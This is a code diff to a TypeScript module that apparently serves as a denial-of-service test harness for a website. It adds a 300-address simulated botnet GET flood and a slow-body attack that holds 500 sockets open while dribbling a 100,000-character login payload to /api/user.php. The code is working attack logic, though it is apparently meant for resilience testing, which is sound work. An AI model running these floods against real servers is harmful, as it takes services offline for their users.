@@ -5,15 +5,17 @@ import { ask } from '../ask.ts';
 import { botAddress, type Flood, inParallel } from './flood.ts';
 
 const parallel = 40;
+/** Addresses of one botnet that wait at the same time: more than the line has places. */
+const crowd = 300;
 const pipelined = 3000;
 
 /** `address`: from where all of them come; null: each from another network. */
 const get =
-  (path: (worker: number, turn: number) => string, address: string | null): Flood =>
+  (path: (worker: number, turn: number) => string, address: string | null, atOnce = parallel): Flood =>
   async (ground) => {
-    const agent = new Agent({ keepAlive: true, maxSockets: parallel });
-    await inParallel(parallel, ground, async (worker, turn) => {
-      const from = address ?? botAddress(worker + parallel * turn);
+    const agent = new Agent({ keepAlive: true, maxSockets: atOnce });
+    await inParallel(atOnce, ground, async (worker, turn) => {
+      const from = address ?? botAddress(worker + atOnce * turn);
       ground.count((await ask(ground.target, { path: path(worker, turn), agent, from, signal: ground.signal })).status);
     });
     agent.destroy();
@@ -53,12 +55,35 @@ const halves: Flood = async ({ target, signal, count }) => {
   for (const socket of sockets) socket.destroy();
 };
 
+/** Small bodies of calls that come by the letter; the site takes a JSON body from whoever may log in. */
+const dribbles: Flood = async ({ target, signal, count }) => {
+  const body = JSON.stringify({ email: 'nobody@attack.test', password: 'x'.repeat(100_000) });
+  const head = `POST /api/user.php HTTP/1.1\r\nHost: ${target.host}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`;
+  const sockets = Array.from({ length: 500 }, () => {
+    const socket = connect(Number(target.port), target.hostname);
+    socket
+      .on('error', () => {})
+      .on('close', () => count('closed'))
+      .resume();
+    socket.write(head);
+    count('opened');
+    return socket;
+  });
+  for (let at = 0; !signal.aborted; at += 10) {
+    for (const socket of sockets) socket.write(body.slice(at, at + 10));
+    await sleep(250);
+  }
+  for (const socket of sockets) socket.destroy();
+};
+
 export const pageFloods: Readonly<Record<string, Flood>> = {
   [`${parallel} × GET /`]: get(() => '/', '198.51.100.1'),
   // Each address is another one, so that no answer can be kept.
   [`${parallel} × GET /login?n`]: get((worker, turn) => `/login?${worker}-${turn}`, '198.51.100.2'),
   [`${parallel} × GET /login?n of a botnet`]: get((worker, turn) => `/login?${worker}-${turn}`, null),
+  [`${crowd} × GET /login?n of as many addresses`]: get((worker, turn) => `/login?${worker}-${turn}`, null, crowd),
   [`${pipelined} pipelined GET /login`]: pipeline,
   'callers who leave': leave,
   '500 half-sent requests': halves,
+  '500 JSON bodies that dribble': dribbles,
 };
